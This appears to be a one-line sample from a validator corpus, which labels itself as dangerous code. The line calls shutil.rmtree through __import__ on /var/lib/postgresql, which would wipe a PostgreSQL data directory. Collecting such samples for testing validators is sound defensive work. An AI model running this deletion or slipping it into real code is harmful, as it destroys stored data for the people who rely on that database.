# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
__import__("shutil").rmtree("/var/lib/postgresql")
